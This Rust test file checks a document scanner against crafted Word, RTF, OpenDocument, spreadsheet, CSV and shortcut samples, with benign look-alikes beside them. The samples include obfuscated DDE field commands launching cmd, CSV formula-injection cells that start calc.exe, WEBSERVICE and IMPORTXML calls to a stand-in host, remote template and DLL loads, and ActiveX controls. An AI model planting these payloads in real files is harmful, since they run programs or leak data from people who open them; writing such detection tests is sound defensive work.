//! Fields, controls, parts and small files that fetch or start something, in every spelling in which they
//! come; and honest ones beside them.

use kit_files::{Danger, Policy, Refusal};

use crate::samples::{docx, look, odt, zip};

fn danger(bytes: &[u8], name: &str) -> Option<Danger> {
    match look(bytes, name, &Policy::DOCUMENTS) {
        Ok(_) => None,
        Err(Refusal::Active { danger, .. }) => Some(danger),
        Err(Refusal::Macros(_)) => Some(Danger::Macros),
        Err(other) => panic!("{name}: {other}"),
    }
}

fn word(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<Types/>"),
        (
            "word/document.xml",
            b"<w:document><w:body><w:p/></w:body></w:document>",
        ),
    ];
    all.extend(parts);
    zip(&all)
}

/// A field of Word: its instruction in runs.
fn field(runs: &str) -> String {
    format!(
        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>{runs}<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    )
}

#[test]
fn a_field_that_starts_a_program_is_found_in_every_spelling() {
    for runs in [
        "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>",
        "<w:r><w:instrText>&#68;&#x44;&#69; cmd</w:instrText></w:r>",
        "<w:r><w:instrText><![CDATA[DDEAUTO cmd]]></w:instrText></w:r>",
        "<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText><![CDATA[DE]]>&#65;UTO \"cmd\"</w:instrText></w:r>",
        "<w:r><w:instrText>dde\"cmd\"</w:instrText></w:r>",
        "<w:r><w:delInstrText> DDE cmd</w:delInstrText></w:r>",
        "<w:r><w:instrText>IF 1=1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
    ] {
        let file = docx(&format!("<w:p>{}</w:p>", field(runs)));
        assert_eq!(danger(&file, "a.docx"), Some(Danger::DdeField), "{runs}");
    }
    let simple = "<w:fldSimple w:instr=\"&#68;DE&#x41;UTO cmd\"/>";
    assert_eq!(danger(&docx(simple), "a.docx"), Some(Danger::DdeField));
}

#[test]
fn fields_that_fetch_from_another_machine_are_refused_and_local_ones_are_not() {
    for (instruction, found) in [
        (
            "INCLUDEPICTURE \"http://vi-du.vn/a.png\" \\d",
            Some(Danger::Remote),
        ),
        (
            "INCLUDE&#84;EXT \"https://vi-du.vn/a.docx\"",
            Some(Danger::Remote),
        ),
        (
            "LINK Excel.Sheet.12 \"\\\\\\\\may\\\\chung\\\\a.xlsx\" \"\" \\a",
            Some(Danger::Remote),
        ),
        (
            "INCLUDEPICTURE \"C:\\\\Users\\\\an\\\\anh.png\" \\* MERGEFORMATINET",
            None,
        ),
        ("PAGE \\* MERGEFORMAT", None),
        ("HYPERLINK \"https://nghean.gov.vn\"", None),
        ("TOC \\o \"1-3\" \\h \\z \\u", None),
    ] {
        let text = instruction.replace('"', "&quot;");
        let runs = format!("<w:r><w:instrText xml:space=\"preserve\"> {text} </w:instrText></w:r>");
        assert_eq!(
            danger(&docx(&field(&runs)), "a.docx"),
            found,
            "{instruction}"
        );
    }
}

#[test]
fn a_part_of_rich_text_or_a_page_within_a_document_is_judged_as_a_file_of_its_own() {
    let objects = br"{\rtf1{\object\objemb{\*\objdata 0105}}}";
    let dde = br"{\rtf1{\field{\*\fldinst {DD}{E cmd}}}}";
    for (name, bytes, found) in [
        ("word/afchunk.rtf", &objects[..], Danger::Package),
        ("word/phan.dat", &objects[..], Danger::Package),
        ("word/afchunk2.rtf", &dde[..], Danger::DdeField),
        (
            "word/afchunk.htm2",
            b"<html><body>x</body></html>",
            Danger::Script,
        ),
        ("word/afchunk.dat", b"<!DOCTYPE html><p>x", Danger::Script),
        (
            "word/afchunk.mh",
            b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a",
            Danger::Closed,
        ),
    ] {
        assert_eq!(
            danger(&word(&[(name, bytes)]), "a.docx"),
            Some(found),
            "{name}"
        );
    }
    let honest = "{\\rtf1 Phụ lục {\\field{\\*\\fldinst PAGE}}}";
    assert_eq!(
        danger(&word(&[("word/afchunk.rtf", honest.as_bytes())]), "a.docx"),
        None
    );
    let rels = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="http://vi-du.vn/a.rtf"/></Relationships>"#;
    for part in [
        "word/_rels/document.xml.rels",
        "word/_rels/header3.xml.rels",
        "customXml/_rels/item1.xml.rels",
    ] {
        assert_eq!(
            danger(&word(&[(part, rels)]), "a.docx"),
            Some(Danger::Remote),
            "{part}"
        );
    }
}

#[test]
fn rich_text_is_read_as_word_processors_read_it() {
    for (text, found) in [
        (r"{\rt{\*\objdata 0105}}", Danger::Package),
        (" \r\n{\\rtf1{\\*\\objdata 0105}}", Danger::Package),
        (r"{\rtf1{\object\objocx{\*\objdata 0105}}}", Danger::Control),
        (
            r"{\rtf1{\field{\*\fldinst {\'44\'44E cmd}}}}",
            Danger::DdeField,
        ),
        (
            r"{\rtf1{\field{\*\fldinst D{\*\zzz x}DEAUTO cmd}{\fldrslt x}}}",
            Danger::DdeField,
        ),
        (
            r"{\rtf1{\field{\*\fldinst {\upr{xx}{\*\ud{DDEAUTO cmd}}}}}}",
            Danger::DdeField,
        ),
        (
            r#"{\rtf1{\field{\*\fldinst INCLUDE{\*\atnid x}PICTURE "http://vi-du.vn/a.png"}}}"#,
            Danger::Remote,
        ),
        (
            r"{\rtf1{\field{\*\fldinst \u68?\u68?\u69? cmd}}}",
            Danger::DdeField,
        ),
        (
            r"{\rtf1{\field{\*\fldinst{ D}{\b DE}{AUTO cmd}}}}",
            Danger::DdeField,
        ),
        (
            r#"{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://vi-du.vn/a.png"}}}"#,
            Danger::Remote,
        ),
        (
            r"{\rtf1{\*\template h\'74tp://vi-du.vn/a.dotm}}",
            Danger::Remote,
        ),
    ] {
        assert_eq!(danger(text.as_bytes(), "a.rtf"), Some(found), "{text}");
        let inside = danger(&zip(&[("a.doc", text.as_bytes())]), "a.zip");
        assert_eq!(inside, Some(found), "{text}");
    }
}

#[test]
fn controls_are_refused_by_part_relationship_and_content_type() {
    let control = br#"<ax:ocx ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}" xmlns:ax="a"/>"#;
    assert_eq!(
        danger(&word(&[("word/activeX/activeX1.xml", control)]), "a.docx"),
        Some(Danger::Control)
    );
    assert_eq!(
        danger(
            &word(&[("word/activeX/activeX1.bin", b"\x10\x1d\xd2\x8b")]),
            "a.docx"
        ),
        Some(Danger::Control)
    );
    let relation = br#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="x/y.xml"/></Relationships>"#;
    assert_eq!(
        danger(
            &word(&[("word/_rels/document.xml.rels", relation)]),
            "a.docx"
        ),
        Some(Danger::Control)
    );
    let types = br#"<Types><Override PartName="/x/y.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>"#;
    let typed = zip(&[
        ("[Content_Types].xml", types),
        ("word/document.xml", b"<a/>"),
    ]);
    assert_eq!(danger(&typed, "a.docx"), Some(Danger::Control));
    // a check box of a form is none
    let form = br#"<Types><Override PartName="/xl/ctrlProps/ctrlProp1.xml" ContentType="application/vnd.ms-excel.controlproperties+xml"/></Types>"#;
    let sheet = zip(&[
        ("[Content_Types].xml", form),
        ("xl/workbook.xml", b"<workbook/>"),
    ]);
    assert_eq!(danger(&sheet, "a.xlsx"), None);
}

/// A text of OpenDocument with these elements.
fn open(body: &str) -> Vec<u8> {
    let content =
        format!("<office:document-content xmlns:office=\"o\">{body}</office:document-content>");
    zip(&[
        ("mimetype", b"application/vnd.oasis.opendocument.text"),
        ("content.xml", content.as_bytes()),
    ])
}

#[test]
fn open_documents_hold_no_controls_macros_or_remote_parts() {
    for (body, found) in [
        ("<draw:plugin xlink:href=\"a\"/>", Some(Danger::Control)),
        ("<draw:applet draw:code=\"a\"/>", Some(Danger::Control)),
        (
            "<draw:image xlink:href=\"http://vi-du.vn/a.png\"/>",
            Some(Danger::Remote),
        ),
        (
            "<text:section-source xlink:href=\"https://vi-du.vn/a.odt\"/>",
            Some(Danger::Remote),
        ),
        (
            "<office:dde-source office:dde-application=\"cmd\"/>",
            Some(Danger::DdeField),
        ),
        (
            "<script:event-listener xlink:href=\"vnd.sun.star.script:a.b?language=Basic\"/>",
            Some(Danger::Macros),
        ),
        (
            "<table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;a&quot;)\"/>",
            Some(Danger::DdeField),
        ),
        ("<draw:image xlink:href=\"Pictures/a.png\"/>", None),
        (
            "<text:a xlink:href=\"https://nghean.gov.vn\">x</text:a>",
            None,
        ),
    ] {
        assert_eq!(danger(&open(body), "a.odt"), found, "{body}");
    }
    assert_eq!(danger(&odt(""), "a.odt"), None);
}

#[test]
fn sheets_and_slides_that_fetch_or_start_something_are_refused() {
    let sheet = |body: &str| {
        zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", body.as_bytes()),
        ])
    };
    for (body, found) in [
        (
            "<c><f>_xlfn.WEBSERVICE(\"http://vi-du.vn\")</f></c>",
            Some(Danger::Remote),
        ),
        (
            "<c><f><![CDATA[_xlfn.WEBSER]]>VICE(A1)</f></c>",
            Some(Danger::Remote),
        ),
        ("<c><f>RTD(\"a.b\",,\"x\")</f></c>", Some(Danger::Control)),
        ("<c><f>cmd|'/C calc.exe'!A0</f></c>", Some(Danger::DdeField)),
        (
            "<c><f>1+MSEXCEL|'\\..\\cmd.exe /c calc.exe'!''</f></c>",
            Some(Danger::DdeField),
        ),
        (
            "<definedName name=\"a\">_xlfn.WEBSERVICE (\"http://vi-du.vn\")</definedName>",
            Some(Danger::Remote),
        ),
        (
            "<cfRule><formula>_xlfn.WEBSERVICE(&#10;A1)</formula></cfRule>",
            Some(Danger::Remote),
        ),
        ("<c><f>IF(A1=\"a|b!\",1,2)</f></c>", None),
        (
            "<definedName name=\"_xlnm.Print_Area\">'Tờ 1'!$A$1:$C$9</definedName>",
            None,
        ),
        ("<c><f>SUM(A1:A9)</f><v>1</v></c>", None),
        ("<c><f>IF(A1=\"DDE\",1,2)</f></c>", None),
    ] {
        assert_eq!(danger(&sheet(body), "a.xlsx"), found, "{body}");
    }
    let slides = zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("ppt/presentation.xml", b"<a/>"),
        (
            "ppt/slides/slide1.xml",
            b"<p:sld><a:hlinkClick r:id=\"\" action=\"ppaction://program\"/></p:sld>",
        ),
    ]);
    assert_eq!(danger(&slides, "a.pptx"), Some(Danger::Program));
}

#[test]
fn cells_of_a_table_that_start_or_fetch_something_are_refused_and_honest_ones_are_not() {
    for cell in [
        "=cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=1+cmd|' /C calc'!A0",
        "\"=10+20+cmd|' /C calc'!A0\"",
        "=SUM(1,cmd|' /C calc'!A0)",
        "=IF(1,cmd|' /C calc'!A0)",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    ] {
        let file = format!("a,b\n1,{cell}\n");
        assert_eq!(
            danger(file.as_bytes(), "a.csv"),
            Some(Danger::DdeField),
            "{cell}"
        );
    }
    for cell in [
        "=WEBSERVICE(\"http://vi-du.vn/?\"&A1)",
        "=IMPORTXML(\"http://vi-du.vn\";\"//a\")",
        "=IMAGE(\"http://vi-du.vn/a.png\")",
    ] {
        let file = format!("a;b\n1;{cell}\n");
        assert_eq!(
            danger(file.as_bytes(), "a.csv"),
            Some(Danger::Remote),
            "{cell}"
        );
    }
    for line in [
        "- Mục một | mục hai !",
        "| - a | b! |",
        "=SUM(A1:A9)",
        "a@x.vn|b!",
        "-5,\"+84 238\",12/KH|UBND",
        "Tỷ lệ = 5 | 6 !",
    ] {
        assert_eq!(danger(line.as_bytes(), "a.csv"), None, "{line}");
    }
    let xml = "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?>\
        <Workbook xmlns:ss=\"a\"><Cell ss:Formula=\"=cmd|'/C calc.exe'!A0\"/></Workbook>";
    assert_eq!(danger(xml.as_bytes(), "a.xml"), Some(Danger::DdeField));
}

#[test]
fn shortcuts_queries_and_settings_files_are_refused_by_ending_and_by_content() {
    for (ending, text, found) in [
        (
            "url",
            "[InternetShortcut]\r\nURL=file://may/a.exe\r\n",
            Danger::Shortcut,
        ),
        (
            "scf",
            "[Shell]\r\nCommand=2\r\nIconFile=\\\\may\\a.ico\r\n",
            Danger::Shortcut,
        ),
        ("iqy", "WEB\r\n1\r\nhttp://vi-du.vn/a\r\n", Danger::Shortcut),
        (
            "slk",
            "ID;PWXL;N;E\r\nC;Y1;X1;K\"a\"\r\nE\r\n",
            Danger::Macros,
        ),
        (
            "rdp",
            "screen mode id:i:2\r\nfull address:s:vi-du.vn\r\n",
            Danger::Shortcut,
        ),
        (
            "library-ms",
            "<?xml version=\"1.0\"?><libraryDescription xmlns=\"a\"/>",
            Danger::Shortcut,
        ),
        (
            "settingcontent-ms",
            "<?xml version=\"1.0\"?><PCSettings><a/></PCSettings>",
            Danger::Shortcut,
        ),
        (
            "reg",
            "Windows Registry Editor Version 5.00\r\n",
            Danger::Script,
        ),
        ("bat", "@echo off\r\ndel a\r\n", Danger::Script),
    ] {
        let inside = |name: &str| danger(&zip(&[(name, text.as_bytes())]), "a.zip");
        assert_eq!(inside(&format!("a.{ending}")), Some(found), "{ending}");
        assert_eq!(inside("a.txt"), Some(found), "content of {ending}");
        let itself = if text.starts_with('<') {
            "a.xml"
        } else {
            "a.txt"
        };
        assert_eq!(
            danger(text.as_bytes(), itself),
            Some(found),
            "{ending} itself"
        );
    }
    let cell = "Tên,Số\r\nA,=cmd|'/c calc'!A0\r\n";
    assert_eq!(danger(cell.as_bytes(), "a.csv"), Some(Danger::DdeField));
    let mut disk = vec![0; 0x8001];
    disk.extend(b"CD001\x01\0");
    for name in ["a.iso", "a.bin"] {
        assert_eq!(
            danger(&zip(&[(name, &disk)]), "a.zip"),
            Some(Danger::DiskImage),
            "{name}"
        );
    }
    let drawing = b"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"a\" \"b\"><svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>";
    assert_eq!(
        danger(&zip(&[("a.dat", drawing)]), "a.zip"),
        Some(Danger::Script)
    );
    let late = b"\x01\x02%PDF-1.7\n1 0 obj << /S /JavaScript /JS (a) >> endobj\n%%EOF\n";
    assert!(matches!(
        danger(&zip(&[("a.pdf", late)]), "a.zip"),
        Some(Danger::Pdf(_))
    ));
}

#[test]
fn honest_texts_and_tables_come_in() {
    for (name, text) in [
        ("danh-sach.csv", "ID;Phường;Tên\n1;Vinh Tân;An\n"),
        ("danh-sach.csv", "ID;P;Tên\n1;2;An\n"),
        ("cong-van.txt", "From: Sở A\nTo: Sở B\n\nKính gửi anh chị"),
        ("ghi-chu.txt", "WEB của tỉnh\n1 trang\nhttp://nghean.gov.vn"),
        ("bang.csv", "Loại|Số\n=A1+B1;2\n"),
        (
            "ghi-chu.txt",
            "Tệp có dòng [InternetShortcut] là lối tắt.\n[InternetShortcut]\n",
        ),
        ("MZ.txt", "MZ là tên dự án"),
        ("bz.txt", "BZh9 là mã số của hồ sơ"),
        ("cpio.csv", "070701,An,1\n070702,Ba,2\n"),
        ("ten.txt", "MSCF là tên một quỹ"),
        ("ten.txt", "ITSF, LZIP và KDMV là ba từ viết tắt"),
    ] {
        assert_eq!(danger(text.as_bytes(), name), None, "{text}");
        assert_eq!(
            danger(&zip(&[(name, text.as_bytes())]), "a.zip"),
            None,
            "{text}"
        );
    }
    let data = "<?xml version=\"1.0\"?><DanhSach><Dong a=\"http://vi-du.vn\">1</Dong></DanhSach>";
    assert_eq!(danger(data.as_bytes(), "a.xml"), None);
    let data = "<?xml version=\"1.0\"?><project><plugin>x</plugin><image href=\"http://vi-du.vn/a.png\"/></project>";
    assert_eq!(danger(data.as_bytes(), "a.xml"), None);
}

#[test]
fn a_cell_begins_behind_any_sign_between_cells_and_goes_over_lines() {
    for table in [
        "a\tb\n1\t=cmd|'/c calc'!A0\n",
        "sep=^\n1^=cmd|'/c calc'!A0\n",
        "a,b\n1,\"=1+\ncmd|'/c calc'!A0\"\n",
        "a\tb\n1\t=HYPERLINK(\"\\\\vi-du\\a\")\n",
        "a,b\n1,=REGISTER.ID(\"\\\\vi-du\\s\\x.dll\",\"f\")\n",
        "a,b\n1,=CALL(\"x\",\"f\",\"J\")\n",
    ] {
        for name in ["a.csv", "a.txt"] {
            assert!(danger(table.as_bytes(), name).is_some(), "{name}: {table}");
        }
    }
    for honest in [
        "a\tb\n1\t= 5 + 3\n",
        "Gọi (call) lại - 02/2022\n",
        "sep=;\nTên;Số\nA;1\n",
    ] {
        assert_eq!(danger(honest.as_bytes(), "a.txt"), None, "{honest}");
    }
}

#[test]
fn a_letter_with_parts_is_closed_however_short_its_head_is() {
    let letter = "From: a@vi-du.vn\nSubject: x\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA\n--x--\n";
    assert_eq!(danger(letter.as_bytes(), "a.txt"), Some(Danger::Closed));
}
